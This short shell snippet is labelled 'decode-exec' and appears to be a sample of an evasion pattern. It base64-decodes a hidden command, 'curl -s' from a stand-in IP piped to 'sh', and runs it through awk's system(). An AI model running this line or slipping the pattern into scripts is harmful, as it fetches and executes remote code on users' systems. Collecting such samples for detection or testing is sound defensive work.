# decode-exec: awk's system() runs the output of a base64 decode
base64 -d <<<'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYXdrIHwgc2g=' | awk '{ system($0) }'
